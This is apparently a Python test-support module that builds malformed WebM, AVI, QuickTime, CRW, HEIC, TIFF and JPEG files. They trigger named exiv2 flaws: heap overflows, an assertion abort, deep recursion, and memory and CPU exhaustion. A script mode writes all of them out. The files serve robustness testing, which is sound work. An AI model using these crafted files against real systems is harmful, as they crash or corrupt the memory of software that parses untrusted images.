"""Files crafted to reach the weak parts of exiv2's readers and of our own.

Every file is built here, byte by byte. Each maker takes the size of its
attack as a parameter: with the default it is the attack, with a small value
it is a harmless sibling of the same layout, which lets a test show that the
layout is read as intended (the GPS position it carries opens the map).
Run as a script to write every attack into a directory:
    python3 crafted.py DIRECTORY
"""

import os
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "support"))
import pictures  # noqa: E402
from picture_bytes import (ASCII, BYTE, LONG, SHORT, UNDEFINED, box, exif_item,  # noqa: E402
                           exif_segment, full_box, gps_tiff, heif, iinf, iloc, infe, jpeg,
                           riff, riff_chunk, segment, write)

# The position every crafted picture carries, as (d, m, s, ref) per axis.
LATITUDE, LONGITUDE = POSITION = ((46, 12, 30.0, "N"), (6, 8, 45.0, "E"))
MAP_URL = pictures.place(pictures.expected_degrees(*LATITUDE),
                         pictures.expected_degrees(*LONGITUDE))
GPS_EXIF = exif_segment(gps_tiff(POSITION))


# ---- Video readers: files that exiv2 types as video ------------------------

def matroska_with_sizeless_element():
    """A WebM file whose Segment element has a size field of a zero byte, which
    has no length marker: exiv2's Matroska reader asserts (SIGABRT)."""
    doc_type = b"\x42\x82" + b"\x84" + b"webm"
    ebml = b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(doc_type)]) + doc_type
    # exiv2 reads up to a hundred bytes of any file while it tells the types
    # apart, and calls shorter files of no type: the rest fills the file up.
    return ebml + b"\x18\x53\x80\x67" + b"\x00" + b"\x15\x49\xa9\x66" * 32


def avi_with_overrunning_info(entry_length=0x10000):
    """A RIFF/AVI file whose LIST INFO entry claims `entry_length` bytes, which
    exiv2's RIFF reader copies into a buffer of 10,000 (a heap overflow with
    the file's bytes)."""
    return riff(b"AVI ", riff_chunk(b"LIST", b"INFO" + riff_chunk(b"INAM", b"\x41" * entry_length)))


def quicktime_with_overrunning_boxes(payload_length=0x4000):
    """A QuickTime movie whose 'url ' and 'dcom' boxes exiv2's QuickTime reader
    reads whole into buffers of five bytes (heap overflows with the file's bytes)."""
    ftyp = box(b"ftyp", b"qt  " + struct.pack(">I", 0x200) + b"qt  ")
    payload = b"\x42" * payload_length
    moov = box(b"moov", box(b"url ", payload) + box(b"dcom", payload))
    return ftyp + moov


# ---- Recursion ---------------------------------------------------------------

def crw_with_nested_directories(depth=100_000):
    """A Canon CRW (CIFF) file of `depth` directories, each the only entry of the
    one around it: exiv2 reads them by recursion, one stack frame each."""
    # A directory's bytes: its content, then the entry count, the entries, and
    # the offset of the count. Each directory's content is the one inside it,
    # so every directory is the one inside it with its own table appended.
    region = bytearray(struct.pack("<HI", 0, 0))  # the innermost: no entries
    for _ in range(depth):
        inner = len(region)
        entry = struct.pack("<HII", 0x300A, inner, 0)  # a subdirectory at offset 0
        region += struct.pack("<H", 1) + entry + struct.pack("<I", inner)
    # Byte order, header length, signature, version and reserved words.
    header = b"II" + struct.pack("<I", 26) + b"HEAPCCDR" + struct.pack("<III", 0x00010002, 0, 0)
    return header + bytes(region)


# ---- HEIF ------------------------------------------------------------------------

def crafted_heif(children):
    """A HEIF file of one Exif item, the GPS TIFF; `children(item_offset,
    item_length)` are meta's boxes after hdlr."""
    item = exif_item(gps_tiff(POSITION))
    return heif(lambda start: children(start, len(item)), item)


def heic_with_nested_boxes(depth=8000):
    """A HEIC whose meta holds the Exif item and `depth` nested 'ipco' boxes:
    exiv2's BMFF reader holds a copy of each box's body while it reads the
    boxes inside, so the nest costs about 12 x depth^2 bytes."""
    def children(item_offset, item_length):
        # exiv2 refuses a file of more boxes than a sixteenth of its bytes:
        # the innermost box is padded so that the file is large enough.
        nest = box(b"free", bytes(8 * depth))
        for _ in range(depth):
            nest = box(b"ipco", nest)
        return iinf(infe(1, b"Exif")) + iloc([(1, item_offset, item_length)]) + box(b"iprp", nest)
    return crafted_heif(children)


def heic_with_endless_item_table(items=65535, extents=65535):
    """A HEIC whose iloc (version 1) lists `items` items of `extents` extents each,
    every extent without offset or length bytes, so that the table costs
    8 bytes per item whatever the extent count; the Exif item is the last one.
    exiv2 reads only iloc tables of 4-byte fields, so it finds no Exif here and
    our own reader gets the file."""
    def children(item_offset, item_length):
        table = bytearray(bytes([0x00, 0x00]) + struct.pack(">H", items))
        for item_id in range(1, items + 1):
            table += struct.pack(">HHHH", item_id, 0, 0, extents)
        return iinf(infe(items, b"Exif")) + full_box(b"iloc", 1, 0, bytes(table))
    return crafted_heif(children)


def heic_read_by_our_reader_only():
    """The same layout as heic_with_endless_item_table, with a table of sound
    extents that exiv2 cannot read (8-byte offsets): only our own reader finds
    the Exif item."""
    def children(item_offset, item_length):
        table = bytes([0x84, 0x00]) + struct.pack(">H", 2)
        table += struct.pack(">HHHH", 1, 0, 0, 0)
        table += struct.pack(">HHHHQI", 2, 0, 0, 1, item_offset, item_length)
        return iinf(infe(2, b"Exif")) + full_box(b"iloc", 1, 0, table)
    return crafted_heif(children)


# ---- Memory bombs in TIFF and JPEG -------------------------------------------------

CANON_BINARY_ARRAYS = (0x0001, 0x0004, 0x0005, 0x000F, 0x0012, 0x0035, 0x0093, 0x00A0)


def canon_makernote_tiff(block_size=512 << 10):
    """A TIFF from a Canon camera whose makernote's binary arrays all cover one
    block of `block_size` bytes: exiv2 makes an object of every element of each."""
    def before(tiff):
        block = tiff.place(bytes(block_size))
        arrays = [(tag, SHORT, block_size // 2, block) for tag in CANON_BINARY_ARRAYS]
        # Canon's makernote is a plain directory, its offsets those of the TIFF.
        makernote = tiff.directory(arrays)
        exif = tiff.directory([(0x927C, UNDEFINED, 2 + 12 * len(arrays) + 4, makernote)])
        return [(0x010F, ASCII, 6, b"Canon\0"), (0x8769, LONG, 1, exif)]
    return gps_tiff(POSITION, before=before)


def canon_makernote_jpeg(block_size=60000):
    return jpeg(exif_segment(canon_makernote_tiff(block_size)))


def tiff_with_shared_blob(tags=250, blob_size=2 << 20):
    """A TIFF of `tags` tags whose values are all one blob of zeros: exiv2 keeps
    a copy of the blob for every tag."""
    def before(tiff):
        blob = tiff.place(bytes(blob_size))
        return [(0xC000 + number, UNDEFINED, blob_size, blob) for number in range(tags)]
    return gps_tiff(POSITION, before=before)


# ---- CPU bombs in JPEG ---------------------------------------------------------------

PHOTOSHOP = b"Photoshop 3.0\0"


def iptc_keywords_jpeg(keywords=95_000):
    """A JPEG with GPS EXIF and `keywords` IPTC keywords (dataset 2:25), each in
    a Photoshop resource of its own, the resources cut across APP13 segments so
    that every segment ends inside one: at each segment exiv2 walks every
    resource gathered so far to see whether the block is whole yet."""
    record = b"\x1c\x02\x19\x00\x01k"
    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\0\0" + struct.pack(">I", len(record))
    resource += record + b"\0" * (len(record) % 2)
    stream = resource * keywords
    half = len(resource) // 2
    cuts = [0] + list(range(half, len(stream), len(resource))) + [len(stream)]
    pieces = [stream[start:end] for start, end in zip(cuts, cuts[1:])]
    return jpeg(GPS_EXIF, *(segment(0xED, PHOTOSHOP + piece) for piece in pieces))


def xmp_packet(namespaces):
    # One description per namespace: the toolkit refuses an element of
    # thousands of attributes.
    descriptions = "".join('<rdf:Description rdf:about="" xmlns:n%d="u:%d" n%d:p="1"/>' % (n, n, n)
                           for n in range(namespaces))
    return ('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
            '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            '%s</rdf:RDF></x:xmpmeta>'
            '<?xpacket end="w"?>' % descriptions).encode()


def xmp_namespaces_tiff(namespaces=19_000):
    """A TIFF with GPS EXIF and an XMP packet (tag 700) declaring `namespaces`
    namespaces, each with one property. A JPEG's XMP segment holds 64 KB, a
    few thousand declarations; a TIFF's XMP has room for all of them."""
    packet = xmp_packet(namespaces)
    return gps_tiff(POSITION, extra_entries=[(0x02BC, BYTE, len(packet), packet)])


def icc_segments_jpeg(segments=900):
    """A JPEG with GPS EXIF and `segments` full APP2 ICC profile segments:
    exiv2 copies the whole profile gathered so far at each one."""
    chunk = b"ICC_PROFILE\0" + bytes([1, 0])
    payload = chunk + bytes(0xFFFD - len(chunk))
    return jpeg(GPS_EXIF, *(segment(0xE2, payload) for _ in range(segments)))


# ---- All of them -------------------------------------------------------------------

ATTACKS = {
    "sizeless-element.webm": matroska_with_sizeless_element,
    "overrunning-info.avi": avi_with_overrunning_info,
    "overrunning-boxes.mov": quicktime_with_overrunning_boxes,
    "nested-directories.crw": crw_with_nested_directories,
    "nested-boxes.heic": heic_with_nested_boxes,
    "canon-arrays.jpg": canon_makernote_jpeg,
    "canon-arrays.tif": canon_makernote_tiff,
    "shared-blob.tif": tiff_with_shared_blob,
    "iptc-keywords.jpg": iptc_keywords_jpeg,
    "xmp-namespaces.tif": xmp_namespaces_tiff,
    "icc-segments.jpg": icc_segments_jpeg,
    "endless-item-table.heic": heic_with_endless_item_table,
}


if __name__ == "__main__":
    os.makedirs(sys.argv[1], exist_ok=True)
    for name, make in ATTACKS.items():
        print(write(os.path.join(sys.argv[1], name), make()))
